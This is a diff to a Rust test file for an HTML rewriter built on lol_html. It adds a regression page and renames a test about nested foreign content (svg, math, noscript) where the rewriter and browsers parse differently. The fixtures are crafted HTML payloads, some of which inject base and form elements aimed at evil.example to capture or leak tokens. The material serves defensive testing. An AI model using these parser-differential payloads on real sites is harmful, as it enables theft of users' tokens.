@@ -375,14 +375,19 @@ fn values_starting_with_a_byte_order_mark_are_read_as_a_browser_reads_them() {
     }
 }
 
-/// A `<template>` that lol_html reads after nested foreign content, where a tree builder is
-/// still in foreign content (`<math>` inside `<svg>` is SVG to it, so `<mtext>` is no
+/// Nested foreign content, where lol_html's view and a tree builder's part. A `<template>` that
+/// lol_html reads after it, where a tree builder is still in foreign content (`<math>` inside `<svg>` is SVG to it, so `<mtext>` is no
 /// integration point): to the browser it is an SVG element, a `<div>` in it breaks out, and a
 /// `<base>` or `<form>` after that is the document's. Found by `rewrite_pieces`: the base sent
 /// every earlier link's token to evil.example. Each page fails closed in every reading.
 #[test]
-fn a_template_after_nested_foreign_content_is_not_taken_for_one() {
+fn nested_foreign_content_where_lol_html_and_browsers_part() {
     let pages = [
+        // The rewriter empties a text element in nested foreign content; what went was markup
+        // to a browser (the `<img>` that takes it out of foreign content), so its tree changed
+        // from there: the later POST form stays SVG, the GET form stays open, and a token put
+        // into the last form joined the GET one. Tokens stop there now.
+        "<svg><noscript><img src=/i></noscript><form method=get><svg><noscript><img src=/i></noscript><form id=f method=post></form><meta name=referrer content=unsafe-url><form id=f method=post>",
         r#"<a href="next">n</a><svg><math><mtext><svg></svg><template><div><base href="https://evil.example/">"#,
         r#"<svg><math><mtext><svg></svg><template><div><form action="https://evil.example/"></div></template></mtext></math></svg><form method=post><input name=a></form>"#,
     ];
